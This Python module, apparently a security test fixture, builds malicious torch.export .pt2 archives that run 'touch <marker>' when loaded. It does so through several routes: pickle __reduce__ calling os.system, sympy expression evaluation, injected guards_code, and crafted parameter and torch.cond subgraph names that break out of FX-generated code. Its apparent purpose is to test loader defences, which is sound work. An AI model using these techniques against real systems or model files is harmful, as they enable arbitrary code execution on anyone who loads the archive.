"""``.pt2`` archives an attacker would hand over: a valid ``torch.export.save`` program plus an entry
torch 2.13's loader unpickles with ``weights_only=False``, holding an object whose ``__reduce__`` runs
``touch <marker>``. If anything loads such an archive, the marker file appears.

The three ways in through pickle: the legacy ``data/weights/<model>.pt`` and
``data/constants/<model>.pt`` entries (preferred over the payload configs when present), and a pre-2.8
archive's ``serialized_state_dict.pt`` beside a dummy weights config (the old deny-list wanted one).
A fourth shows the legacy entry to torch's zip reader only (``crafted_archives``: two central
directories). The rest need no pickle at all: a shape expression in ``models/model.json`` (the loader
evaluates it with ``sympy.sympify``), one that is a plain sympy constructor call whose string argument
sympy evaluates in turn (``Tuple("__import__('os')...")``), a guard in its ``guards_code``
(``module()`` executes those by default), and two names FX pastes into the Python it compiles for
``forward`` (``torch.fx.graph._format_target`` writes ``getattr(self, "<name>")`` without escaping
the quote): a ``torch.cond`` subgraph's and a parameter's. No check of the archive's entries,
layout or expressions sees those two; the code runs when the program's module is called.

``marker`` may name several files, separated by spaces: the code runs ``touch`` on all of them.
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from torch import nn

VARIANTS = ("legacy_weights", "legacy_constants", "pre_2_8_state_dict", "sympy_expression",
            "sympy_string_argument", "two_central_directories", "cond_subgraph_name",
            "parameter_name")  # fmt: skip
# The variants that rewrite a program's names: their own base (``cond_program``), not ``linear_program``.
NAME_VARIANTS = ("cond_subgraph_name", "parameter_name")


class RunsCode:
    """Unpickling this runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return (os.system, (self.command,))


def code_pickle(marker: Path | str) -> bytes:
    buffer = io.BytesIO()
    torch.save(RunsCode(f"touch {marker}"), buffer)
    return buffer.getvalue()


def linear_program(path: Path) -> Path:
    """A valid program: ``nn.Linear(3, 2)`` with a dynamic batch axis (input ``input``, output ``output``)."""
    batch = torch.export.Dim("batch", min=1, max=16)
    program = torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


class Conditional(nn.Module):
    """``torch.cond`` over a linear layer held as ``lin``: a subgraph (``true_graph_0``) and a dotted
    parameter name (``lin.weight``) in the program."""

    def __init__(self) -> None:
        super().__init__()
        self.lin = nn.Linear(3, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.cond(x.sum() > -1e9, lambda x: self.lin(x), lambda x: self.lin(x) * 2, (x,))


def cond_program(path: Path) -> Path:
    """A valid program with a ``torch.cond`` subgraph: input ``x`` [batch, 3], output [batch, 2]."""
    batch = torch.export.Dim("batch", min=1, max=16)
    program = torch.export.export(Conditional().eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
    torch.export.save(program, str(path))
    return path


def _dotless_code(marker: Path | str) -> str:
    """``touch marker`` as a Python expression without a dot (FX splits a name at its dots)."""
    command = list(f"touch {marker}".encode())
    return f'getattr(__import__("os"), "system")(str(bytes({command}), "ascii"))'


def with_code_in_a_name(base: Path, target: Path, name: str, marker: Path | str) -> Path:
    """``base`` with every occurrence of the name ``name`` (a JSON string in its configs and program)
    replaced by one that closes FX's ``getattr(self, "…")``, runs the code and reopens it."""
    head, _, last = name.rpartition(".")
    crafted = f'{head}{"." if head else ""}{last}") if {_dotless_code(marker)} else getattr(self, "{last}'
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename.endswith(".json"):
                data = data.decode().replace(json.dumps(name), json.dumps(crafted)).encode()
            new.writestr(item, data)
    return target


def _with_entry(base: Path, target: Path, relative: str, data: bytes) -> None:
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        prefix = old.namelist()[0].split("/")[0]
        for item in old.infolist():
            new.writestr(item, old.read(item.filename))
        new.writestr(f"{prefix}/{relative}", data)


def with_program_text(base: Path, target: Path, change: Callable[[str], str]) -> Path:
    """``base`` with its ``models/model.json`` text passed through ``change``."""
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename.endswith("/models/model.json"):
                data = change(data.decode()).encode()
            new.writestr(item, data)
    return target


def _code(marker: Path | str) -> str:
    return f"__import__('os').system('touch {marker}')"


def with_expression(base: Path, target: Path, expression: str) -> Path:
    """``base`` with its first shape expression (an ``expr_str``) replaced by ``expression``."""
    pattern = re.compile(r'"expr_str": "(?:[^"\\]|\\.)*"')
    replacement = json.dumps({"expr_str": expression})[1:-1]
    with_program_text(base, target, lambda text: pattern.sub(lambda _: replacement, text, 1))
    return target


def with_guard_code(base: Path, target: Path, marker: Path | str) -> Path:
    """``base`` with a guard that runs code: executed by ``ExportedProgram.module()`` (check_guards)."""

    def change(text: str) -> str:
        program = json.loads(text)
        program["guards_code"] = [f"{_code(marker)} == 0"]
        return json.dumps(program)

    with_program_text(base, target, change)
    return target


def _pre_2_8(target: Path, marker: Path | str) -> None:
    from torch._export.serde.serialize import SCHEMA_VERSION, serialize

    artifact = serialize(torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),)))
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("version", ".".join(map(str, SCHEMA_VERSION)))
        archive.writestr("serialized_exported_program.json", artifact.exported_program)
        archive.writestr("serialized_state_dict.pt", code_pickle(marker))
        archive.writestr("serialized_constants.pt", artifact.constants)
        archive.writestr("serialized_example_inputs.pt", artifact.example_inputs)
        archive.writestr("program/data/weights/model_weights_config.json", '{"config": {}}')


def craft(variant: str, base: Path, target: Path, marker: Path | str) -> Path:
    """``target``: ``base`` (a valid program) made hostile the ``variant`` way (``NAME_VARIANTS``
    start from ``cond_program`` instead, written beside ``target``)."""
    if variant == "legacy_weights":
        _with_entry(base, target, "data/weights/model.pt", code_pickle(marker))
    elif variant == "legacy_constants":
        _with_entry(base, target, "data/constants/model.pt", code_pickle(marker))
    elif variant == "sympy_expression":
        with_expression(base, target, _code(marker))
    elif variant == "sympy_string_argument":  # a sympy class the old check allowed; it sympifies its argument
        with_expression(base, target, f"Tuple({_code(marker)!r})")
    elif variant == "pre_2_8_state_dict":
        _pre_2_8(target, marker)
    elif variant in NAME_VARIANTS:
        name = "true_graph_0" if variant == "cond_subgraph_name" else "lin.weight"
        with_code_in_a_name(cond_program(target.with_name("cond.pt2")), target, name, marker)
    else:  # an archive two zip readers read differently (``crafted_archives.CONSTRUCTIONS``)
        from crafted_archives import hostile_archive  # it builds on this module's pickle

        target.write_bytes(hostile_archive(variant, base, marker))
    return target
